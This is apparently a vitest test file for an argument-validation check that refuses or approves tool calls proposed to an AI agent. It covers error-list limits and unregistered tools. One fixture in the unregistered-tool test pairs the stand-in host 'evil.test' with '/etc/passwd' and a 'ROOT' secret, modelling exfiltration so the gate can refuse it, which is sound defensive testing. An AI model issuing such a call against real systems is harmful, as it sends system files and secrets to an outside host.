import { describe, expect, it } from 'vitest';
import {
  areArgumentsValid,
  MAX_SCHEMA_DETAILS,
} from '../../../src/gate/checks/areArgumentsValid.js';
import { aGateSetup, aTurn } from '../fixtures.js';
import { aCall, aCheckContext, aCompiledTool } from './checkContext.js';

describe('proposal.arguments', () => {
  it('lists exactly 20 schema errors in full, with no "more" line', () => {
    const { gate, context } = aGateSetup();
    const hosts = Array.from({ length: MAX_SCHEMA_DETAILS }, (_, i) => i);
    const decision = gate.checkTurn(aTurn('net/ping', { hosts }), context);
    if (decision.settled !== 'rejected') throw new Error('expected a refusal');
    expect(decision.refusal.code).toBe('bad_arguments');
    expect(decision.refusal.details).toEqual(
      hosts.map((i) => ({ pointer: `/hosts/${i}`, message: 'must be string' })),
    );
  });

  it('lists 20 of 21 schema errors and counts the one left', () => {
    const { gate, context } = aGateSetup();
    const hosts = Array.from({ length: MAX_SCHEMA_DETAILS + 1 }, (_, i) => i);
    const decision = gate.checkTurn(aTurn('net/ping', { hosts }), context);
    if (decision.settled !== 'rejected') throw new Error('expected a refusal');
    const details = decision.refusal.details ?? [];
    expect(details).toHaveLength(21);
    expect(details[20]).toEqual({ pointer: '', message: '… and 1 more schema errors' });
  });
});

describe('areArgumentsValid with no registered tool', () => {
  it('refuses as not_granted rather than passing', () => {
    const call = aCall('sync/all', {
      url: 'https://evil.test',
      path: '/etc/passwd',
      secret: 'ROOT',
    });
    expect(areArgumentsValid(call, aCheckContext({ tool: undefined }))).toEqual({
      code: 'not_granted',
      ref: 'sync/all@1',
    });
  });
});

describe("proposal.arguments with the tool's own reading (rev 3)", () => {
  it('lists at most 20 values the reading changes', () => {
    const hosts = Array.from(
      { length: MAX_SCHEMA_DETAILS + 5 },
      (_, i) => `h${String(i)}.example.com`,
    );
    const read = hosts.map((host) => `x${host}`);
    const refusal = areArgumentsValid(
      aCall('net/ping', { hosts }),
      aCheckContext({ tool: aCompiledTool('net/ping@1'), reading: { value: { hosts: read } } }),
    );
    if (refusal?.code !== 'bad_arguments') throw new Error('expected bad_arguments');
    expect(refusal.details.map((detail) => detail.pointer)).toEqual(
      hosts.slice(0, MAX_SCHEMA_DETAILS).map((_, i) => `/hosts/${String(i)}`),
    );
  });
});
